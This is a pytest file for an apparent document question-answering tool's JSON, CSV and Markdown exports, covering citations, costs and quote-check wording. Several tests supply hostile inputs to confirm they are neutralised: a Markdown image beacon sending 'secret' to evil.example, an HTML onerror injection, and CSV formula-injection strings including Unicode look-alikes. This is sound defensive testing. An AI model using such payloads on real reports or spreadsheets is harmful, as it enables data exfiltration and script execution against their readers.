"""Exports: JSON, CSV and Markdown carry the answers and their page citations."""

from __future__ import annotations

import csv
import io
import json

import pytest
from conftest import (
    PAPER_METHODS,
    PLANTED_PAGE,
    PLANTED_QUESTION,
    offline_traces,
    small_settings,
    word_counter,
)

from rr_core.documents import Document
from rr_core.exports import CSV_COLUMNS, to_csv, to_json, to_markdown
from rr_core.llm import ScriptedClient
from rr_core.methods import plan_method
from rr_core.outputs import NOT_STATED
from rr_core.plans import Citation, Outcome
from rr_core.quotes import CHECK_MEANING
from rr_core.runs import RunTrace, run_plans
from rr_core.settings import RunSettings

RETRIEVING = ("icr", "rr", "chunked-icr", "chunked-rr")

FACT = "4.2 million euros"


@pytest.fixture
def traces(planted_document: Document) -> list[RunTrace]:
    return offline_traces(planted_document)


def test_json_export_holds_every_trace_with_prompts(traces: list[RunTrace]) -> None:
    assert all(c["prompt"] is None for r in json.loads(to_json(traces))["results"] for c in r["calls"])
    data = json.loads(to_json(traces, include_prompts=True))
    results = data["results"]
    assert [r["method"] for r in results] == list(PAPER_METHODS)
    for result, trace in zip(results, traces):
        assert FACT in result["answer"] and result["page"] == PLANTED_PAGE
        assert result["cost_usd"] == pytest.approx(trace.cost_usd)
        assert len(result["calls"]) == len(trace.calls)
        assert all(c["prompt"] and c["response"] for c in result["calls"])
        assert RunTrace.from_dict(result).answer == trace.answer
    rr = results[PAPER_METHODS.index("rr")]
    assert PLANTED_PAGE in rr["retrieved_pages"]


def test_csv_export_has_one_row_per_method(traces: list[RunTrace]) -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(traces))))
    assert list(rows[0]) == list(CSV_COLUMNS)
    assert [r["method"] for r in rows] == list(PAPER_METHODS)
    for row, trace in zip(rows, traces):
        assert FACT in row["answer"]
        assert row["page"] == str(PLANTED_PAGE)
        assert int(row["calls"]) == len(trace.calls)
        assert int(row["input_tokens"]) == trace.usage.prompt_tokens
        # The offline engine is free: it names itself, and nothing is reported as paid.
        assert row["engine"].endswith("(offline engine, not an LLM)")
        assert float(row["paid_usd"]) == 0.0
        assert float(row["cost_usd"]) == pytest.approx(trace.cost_usd, abs=1e-6)
        if row["method"] in RETRIEVING:
            assert str(PLANTED_PAGE) in row["retrieved_pages"].split()
        else:
            assert row["retrieved_pages"] == ""


def test_markdown_report_cites_pages(traces: list[RunTrace]) -> None:
    report = to_markdown(traces)
    assert report.startswith("# R&R Studio report")
    assert PLANTED_QUESTION in report and "planted.txt" in report
    assert "offline engine, not an LLM" in report
    assert "| Would cost (USD), nothing paid |" in report and "| Cost (USD) |" not in report  # free engine
    for label in ("Baseline", "Reprompting", "ICR", "R&R", "Chunked ICR", "Chunked R&R"):
        assert f"| {label} |" in report
    table_rows = [line for line in report.splitlines() if line.startswith("| ") and FACT in line]
    assert len(table_rows) == len(PAPER_METHODS)
    assert all(f"p. {PLANTED_PAGE}" in line for line in table_rows)


def test_markdown_shows_errors_and_escapes_pipes(planted_document: Document) -> None:
    counter = word_counter()
    client = ScriptedClient(['{"answer": "a | b", "page": 3}', "no json here"])
    traces = [
        *run_plans(
            planted_document,
            [plan_method(planted_document, PLANTED_QUESTION, RunSettings(method="baseline"), counter)],
            client,
        ),
        *run_plans(
            planted_document,
            [plan_method(planted_document, PLANTED_QUESTION, RunSettings(method="reprompt"), counter)],
            client,
        ),
    ]
    report = to_markdown(traces)
    assert "a \\| b" in report and "p. 3" in report
    assert "error:" in report and "**Reprompting:**" in report
    csv_rows = list(csv.DictReader(io.StringIO(to_csv(traces))))
    assert csv_rows[1]["error"] and csv_rows[1]["answer"] == ""


def test_empty_exports() -> None:
    assert json.loads(to_json([])) == {"prompts_included": False, "quote_check": CHECK_MEANING, "results": []}
    assert to_markdown([]).startswith("# R&R Studio report")
    assert to_csv([]).strip() == ",".join(CSV_COLUMNS)


def test_text_from_documents_and_models_cannot_act_in_reports_or_spreadsheets() -> None:
    from rr_core.exports import md_escape, to_csv, to_markdown
    from rr_core.runs import RunTrace

    question = "What? ![x](https://evil.example/?d=secret)"
    hostile = RunTrace(
        run_id="r1",
        method="rr",
        label="R&R",
        describe="",
        questions=[question],
        document="<img src=x onerror=alert(1)>.pdf",
        document_sha256="0" * 64,
        provider="offline",
        model="offline",
        is_llm=False,
        settings=RunSettings(),
        outcomes=[
            Outcome(
                question=question,
                answer='=HYPERLINK("https://evil.example", "click")',
                citations=[Citation(page=3)],
            )
        ],
    )
    report = to_markdown([hostile])
    import re

    # Every markup character arrives escaped: no image to fetch, no HTML to run.
    assert not re.search(r"(?<!\\)!(?<!\\)\[", report) and not re.search(r"(?<!\\)<img", report)
    assert "\\!\\[x\\]\\(" in report and "\\<img" in report
    assert md_escape("[a](b)") == "\\[a\\]\\(b\\)"
    # Plain URLs and addresses, which Markdown links by itself, are broken by a word joiner.
    assert "https://evil" not in report and "https\u2060://evil" in report
    assert (
        md_escape("www.a.example x@b.example HTTP://c")
        == "www\u2060.a.example x@\u2060b.example HTTP\u2060://c"
    )
    rows = to_csv([hostile]).splitlines()
    assert "'=HYPERLINK" in rows[1]


def test_the_same_method_at_two_settings_exports_two_rows_in_order(planted_document: Document) -> None:
    small = offline_traces(planted_document, "rr", reminder_every=1_000)
    large = offline_traces(planted_document, "rr", reminder_every=5_000)
    traces = [*large, *small]
    rows = list(csv.DictReader(io.StringIO(to_csv(traces))))
    assert [r["method"] for r in rows] == ["rr", "rr"]
    data = json.loads(to_json(traces))["results"]
    assert [r["settings"]["reminder_every"] for r in data] == [5_000, 1_000]
    assert [r["run_id"] for r in data] == [t.run_id for t in traces]


def test_exports_cover_the_other_methods(planted_document: Document) -> None:
    traces = offline_traces(
        planted_document, "rag", "briefcontext", "closed-book", "oracle", gold_pages=(PLANTED_PAGE,)
    )
    report = to_markdown(traces)
    for label in ("RAG", "BriefContext", "Closed-book", "Oracle"):
        assert f"| {label} |" in report
    rows = list(csv.DictReader(io.StringIO(to_csv(traces))))
    assert [r["method"] for r in rows] == ["rag", "briefcontext", "closed-book", "oracle"]
    # closed-book, offline: the reader found nothing, which is "Not found", never "not stated"
    assert (rows[2]["answer"], rows[2]["found"], rows[2]["citations"]) == ("Not found", "no (not found)", "")
    assert rows[3]["page"] == str(PLANTED_PAGE) and rows[3]["found"] == "yes"
    data = json.loads(to_json(traces, include_prompts=True))["results"]
    assert data[1]["details"]["preflight"]["decision"] == "map-reduce"
    assert [RunTrace.from_dict(r) for r in data] == traces


def test_json_export_leaves_prompts_out_by_default(traces: list[RunTrace]) -> None:
    with_prompts, without = to_json(traces, include_prompts=True), to_json(traces)
    assert json.loads(without)["prompts_included"] is False
    assert len(without) * 3 < len(with_prompts)


def _trace(document: str, sha: str, question: str, method: str, answer: str, page: int) -> RunTrace:
    from rr_core.methods import get_method
    from rr_core.plans import Citation, Outcome
    from rr_core.settings import RunSettings

    return RunTrace(
        run_id=f"{document}-{method}-{question}",
        method=method,
        label=get_method(method).label,
        describe="",
        questions=[question],
        document=document,
        document_sha256=sha * 64,
        provider="openai",
        model="gpt-4.1-mini",
        is_llm=True,
        settings=RunSettings(method=method),
        outcomes=[Outcome(question=question, answer=answer, citations=[Citation(page=page)])],
        started_at="2026-11-23T10:35:28+00:00",
    )


def test_markdown_files_each_run_under_its_own_document_and_question() -> None:
    """Two questions on two documents in one export: no answer appears under another's question."""
    traces = [
        _trace(
            "contract.pdf", "a", "What is the late payment interest rate?", "baseline", "1.75 percent", 33
        ),
        _trace("10k.pdf", "b", "What was total revenue in fiscal 2024?", "baseline", "USD 4.1 billion", 61),
        _trace(
            "contract.pdf", "a", "What is the late payment interest rate?", "rr", "1.75 percent a month", 33
        ),
        _trace("10k.pdf", "b", "What was total revenue in fiscal 2024?", "rr", "USD 4.1 billion", 61),
    ]
    report = to_markdown(traces)
    assert "4 runs: 2 questions on 2 documents." in report
    sections = report.split("\n## ")[1:]
    assert len(sections) == 2
    contract, annual = sections
    assert contract.startswith("1. What is the late payment interest rate?")
    assert "contract.pdf" in contract and "10k.pdf" not in contract
    assert "1.75 percent" in contract and "4.1 billion" not in contract
    assert annual.startswith("2. What was total revenue in fiscal 2024?")
    assert "10k.pdf" in annual and "1.75" not in annual and "p. 61" in annual
    assert (
        "| Baseline | openai / gpt-4.1-mini | 2026-11-23 10:35 UTC | 1.75 percent "
        "| the quote for p. 33 was not checked |" in contract
    )
    rows = list(csv.DictReader(io.StringIO(to_csv(traces))))
    assert [(r["document"], r["question"][:4], r["page"]) for r in rows] == [
        ("contract.pdf", "What", "33"), ("10k.pdf", "What", "61"), ("contract.pdf", "What", "33"), ("10k.pdf", "What", "61"),
    ]  # fmt: skip
    assert {r["document_sha256"][0] for r in rows if r["document"] == "10k.pdf"} == {"b"}


def test_the_same_file_name_with_other_content_is_another_document() -> None:
    traces = [
        _trace("report.pdf", "a", "Who signed?", "baseline", "Ann", 2),
        _trace("report.pdf", "c", "Who signed?", "baseline", "Bo", 4),
    ]
    report = to_markdown(traces)
    assert report.count("\n## ") == 2 and "2 runs: 2 questions on 2 documents." in report


def test_a_run_of_several_questions_exports_every_answer_under_its_own_question(
    planted_document: Document,
) -> None:
    from rr_core.llm import OfflineEngine
    from rr_core.methods import get_method
    from rr_core.runs import run_plans

    questions = [PLANTED_QUESTION, "What colour is the sky in the filler?"]
    plan = get_method("rr").plan(planted_document, questions, small_settings("rr"), word_counter())
    (trace,) = run_plans(planted_document, [plan], OfflineEngine(word_counter()))
    rows = list(csv.DictReader(io.StringIO(to_csv([trace]))))
    assert [r["question"] for r in rows] == questions
    assert rows[0]["run_id"] == rows[1]["run_id"] == trace.run_id
    report = to_markdown([trace])
    assert report.count("\n## ") == 2


@pytest.mark.parametrize(
    "answer",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\tx",
        '\uff1dHYPERLINK("https://evil.example")',  # fullwidth equals
        "\uff0b1",  # fullwidth plus
        "\uff0d1",  # fullwidth hyphen-minus
        "\uff20SUM(A1)",  # fullwidth commercial at
        "\ufe66cmd",  # small equals sign
        "\u207c1",  # superscript equals
        "\u22121",  # minus sign
        " =1+1",  # a space first
        "\u3000\uff1d1",  # an ideographic space, then a fullwidth equals
    ],
)
def test_csv_keeps_formula_look_alikes_as_text(answer: str) -> None:
    hostile = _trace("x.pdf", "a", "Q?", "baseline", answer, 1)
    row = next(csv.DictReader(io.StringIO(to_csv([hostile]))))
    assert row["answer"] == "'" + answer


def test_csv_leaves_ordinary_text_alone() -> None:
    for answer in ("1.75 percent", "USD 6,400,000", "a=b", "Smith-Jones"):
        row = next(csv.DictReader(io.StringIO(to_csv([_trace("x.pdf", "a", "Q?", "baseline", answer, 1)]))))
        assert row["answer"] == answer


def _cited_trace() -> RunTrace:
    """A wrong answer whose quotes stand on their pages, and an answer the document does not state."""
    trace = _trace(
        "protocol.pdf", "c", "What are the exclusion criteria?", "rr", "Pregnancy; prior surgery", 6
    )
    wrong = trace.outcomes[0]
    wrong.citations = [
        Citation(page=6, quote="Pregnant women.", page_label="6", quote_check="verified", quote_score=100.0),
        Citation(
            page=7, quote="Prior surgery.", page_label="vii", quote_check="approximate", quote_score=93.4
        ),
        Citation(page=9, quote="Made up.", quote_check="not-found", quote_score=40.0),
    ]
    wrong.gold_answers, wrong.correct = ["age under 18"], False
    absent = Outcome(question="Who pays for travel?", answer="The document is silent", found=False)
    trace.questions.append(absent.question)
    trace.outcomes.append(absent)
    return trace


def test_exports_say_where_each_quote_stands_and_never_that_a_wrong_answer_is_verified() -> None:
    trace = _cited_trace()
    rows = list(csv.DictReader(io.StringIO(to_csv([trace]))))
    wrong, absent = rows
    assert wrong["correct"] == "wrong" and wrong["found"] == "yes"
    assert wrong["quote_check"] == "quote located on p. 6"  # provenance, in the screens' words
    assert wrong["citations"] == (
        "p. 6: “Pregnant women.” (quote located on p. 6) | "
        "p. 7 (printed vii): “Prior surgery.” (quote located on p. 7 (printed vii) with small differences (93% match)) | "
        "p. 9: “Made up.” (quote not located on p. 9)"
    )
    assert (
        absent["answer"],
        absent["found"],
        absent["page"],
        absent["quote_check"],
        absent["citations"],
    ) == ("Not found", "no (not found)", "", "", "")
    report = to_markdown([trace])
    assert "verified" not in report.lower() and "word for word |" not in report
    assert (
        "| Pregnancy; prior surgery | quote located on p. 6; quote located on p. 7 \\(printed vii\\) with small"
        in report
    )
    assert "quote not located on p. 9 | wrong |" in report
    assert "| Not found | — |" in report  # nothing found, nothing cited: not dressed as an answer
    assert NOT_STATED not in report
    data = json.loads(to_json([trace]))
    assert data["quote_check"] == CHECK_MEANING
    cited = data["results"][0]["outcomes"][0]["citations"]
    assert [(c["page"], c["page_label"], c["quote_check"], c["quote_score"]) for c in cited] == [
        (6, "6", "verified", 100.0), (7, "vii", "approximate", 93.4), (9, "", "not-found", 40.0),
    ]  # fmt: skip
    assert data["results"][0]["outcomes"][1]["found"] is False
